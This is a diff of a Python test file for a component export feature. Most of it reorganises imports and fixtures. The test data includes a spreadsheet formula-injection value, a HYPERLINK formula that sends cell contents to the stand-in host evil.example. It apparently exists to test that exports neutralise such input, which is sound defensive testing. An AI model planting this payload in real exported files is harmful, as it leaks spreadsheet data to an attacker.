@@ -13,8 +13,8 @@ import pytest
 from core.components import export as component_export
 from core.components.models import Component
 from core.db import db
-from tests.test_components import build_census_city, client_for, imported, run
-from tests.test_exports import finish
+from tests.component_support import build_census_city, imported, run
+from tests.support import client_for, finish
 
 TYPED = {
     "name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
@@ -27,8 +27,8 @@ TYPED = {
 
 
 @pytest.fixture
-def make_app(make_app):
-    return lambda **overrides: make_app(**{"BABEL_DEFAULT_LOCALE": "en", **overrides})
+def make_app(english_xiuhua_app):
+    return english_xiuhua_app
 
 
 @pytest.fixture
